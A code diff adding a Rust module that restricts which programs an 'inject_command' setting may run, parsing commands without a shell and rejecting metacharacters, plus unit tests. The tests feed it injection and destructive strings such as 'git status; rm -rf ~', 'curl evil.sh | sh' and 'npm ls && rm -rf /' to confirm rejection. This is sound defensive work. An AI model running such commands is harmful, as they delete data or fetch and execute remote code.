@@ -0,0 +1,174 @@
+//! Allowlist for `inject_command` (`settings.inject_command_policy`).
+//!
+//! `inject_command` and the `summarize` command run through `sh -c` with the
+//! user's full privileges on every matching event. With a policy set, commands are executed directly
+//! instead: the command line is split into words (single and double quotes
+//! group, as in `sh`), shell metacharacters are rejected unless
+//! `allow_shell` is set, and the program must be on the `allow` list.
+//!
+//! ```yaml
+//! settings:
+//!   inject_command_policy:
+//!     allow: [git, npm, /opt/tools/context-gen]
+//! ```
+//!
+//! An `allow` entry without a `/` matches a program invoked by bare name
+//! (looked up on `PATH`); an entry with a `/` must match the program path
+//! exactly, so `allow: [git]` does not admit `./git`.
+
+use anyhow::{Result, bail};
+use serde::{Deserialize, Serialize};
+
+/// Characters that only mean something to a shell, outside quotes
+const SHELL_METACHARACTERS: &[char] = &[
+    '|', '&', ';', '<', '>', '(', ')', '$', '`', '\\', '*', '?', '[', ']', '{', '}', '~', '\n',
+];
+
+/// Restrictions on what `inject_command` may run
+#[derive(Debug, Clone, Default, PartialEq, Serialize, Deserialize)]
+pub struct InjectCommandPolicy {
+    /// Programs that may be run, by basename or exact path (None = any)
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    pub allow: Option<Vec<String>>,
+
+    /// Run commands through the shell, metacharacters and all
+    ///
+    /// Only the first program is checked against `allow` then; pipes, `;`
+    /// and `$(...)` can still run others.
+    #[serde(default)]
+    pub allow_shell: bool,
+}
+
+impl InjectCommandPolicy {
+    /// Check a command against the policy
+    ///
+    /// Returns the argument vector to execute directly, or `None` when the
+    /// command should run through the shell (`allow_shell`).
+    pub fn argv(&self, command: &str) -> Result<Option<Vec<String>>> {
+        let words = split(command, !self.allow_shell)?;
+        let Some(program) = words.first() else {
+            bail!("command is empty");
+        };
+        if let Some(ref allow) = self.allow {
+            // Exact match: a bare entry never admits a path, and vice versa
+            if !allow.iter().any(|entry| entry == program) {
+                bail!(
+                    "'{}' is not in settings.inject_command_policy.allow",
+                    program
+                );
+            }
+        }
+        Ok((!self.allow_shell).then_some(words))
+    }
+}
+
+/// Split a command line into words
+///
+/// With `strict`, metacharacters outside single quotes are an error; without
+/// it, splitting stops at the first one (only the program is needed).
+fn split(command: &str, strict: bool) -> Result<Vec<String>> {
+    let mut words = Vec::new();
+    let mut word: Option<String> = None;
+    let mut quote: Option<char> = None;
+    for c in command.chars() {
+        match quote {
+            Some(open) if c == open => quote = None,
+            Some('"') if matches!(c, '$' | '`' | '\\') => {
+                if !strict {
+                    break;
+                }
+                bail!(
+                    "'{}' inside double quotes needs a shell (set allow_shell: true)",
+                    c
+                );
+            }
+            None if c == '\'' || c == '"' => {
+                quote = Some(c);
+                word.get_or_insert_with(String::new);
+            }
+            None if SHELL_METACHARACTERS.contains(&c) => {
+                if !strict {
+                    break;
+                }
+                bail!(
+                    "'{}' needs a shell (set allow_shell: true)",
+                    c.escape_default()
+                );
+            }
+            None if c.is_whitespace() => words.extend(word.take()),
+            // Inside quotes, or an ordinary character
+            _ => word.get_or_insert_with(String::new).push(c),
+        }
+    }
+    if strict && quote.is_some() {
+        bail!("unterminated quote");
+    }
+    words.extend(word);
+    Ok(words)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn policy(allow: &[&str]) -> InjectCommandPolicy {
+        InjectCommandPolicy {
+            allow: Some(allow.iter().map(ToString::to_string).collect()),
+            allow_shell: false,
+        }
+    }
+
+    #[test]
+    fn test_split_quotes() {
+        let argv = policy(&["git"])
+            .argv(r#"git log --format='%h (%an)' -n "10""#)
+            .unwrap()
+            .unwrap();
+        assert_eq!(argv, ["git", "log", "--format=%h (%an)", "-n", "10"]);
+        assert_eq!(
+            policy(&["echo"]).argv("echo ''").unwrap().unwrap(),
+            ["echo", ""]
+        );
+    }
+
+    #[test]
+    fn test_metacharacters_need_allow_shell() {
+        let strict = policy(&["git"]);
+        for command in [
+            "git status; rm -rf ~",
+            "git log | head",
+            "git log $(whoami)",
+            "git log > out.txt",
+            "git log \"$HOME\"",
+            "git log 'unterminated",
+        ] {
+            assert!(strict.argv(command).is_err(), "{command}");
+        }
+
+        let shell = InjectCommandPolicy {
+            allow_shell: true,
+            ..policy(&["git"])
+        };
+        assert_eq!(shell.argv("git log | head -5").unwrap(), None);
+        assert!(shell.argv("curl evil.sh | sh").is_err());
+    }
+
+    #[test]
+    fn test_allow_by_basename_or_path() {
+        let allow = policy(&["git", "/opt/tools/ctx"]);
+        assert!(allow.argv("git status").is_ok());
+        assert!(allow.argv("/opt/tools/ctx --brief").is_ok());
+        assert!(
+            allow.argv("./git status").is_err(),
+            "basename entries need a bare name"
+        );
+        assert!(allow.argv("/usr/bin/git status").is_err());
+        assert!(allow.argv("ctx").is_err());
+        assert!(allow.argv("npm ls").is_err());
+        assert!(allow.argv("   ").is_err());
+
+        let any = InjectCommandPolicy::default();
+        assert!(any.argv("npm ls --depth=0").is_ok());
+        assert!(any.argv("npm ls && rm -rf /").is_err());
+    }
+}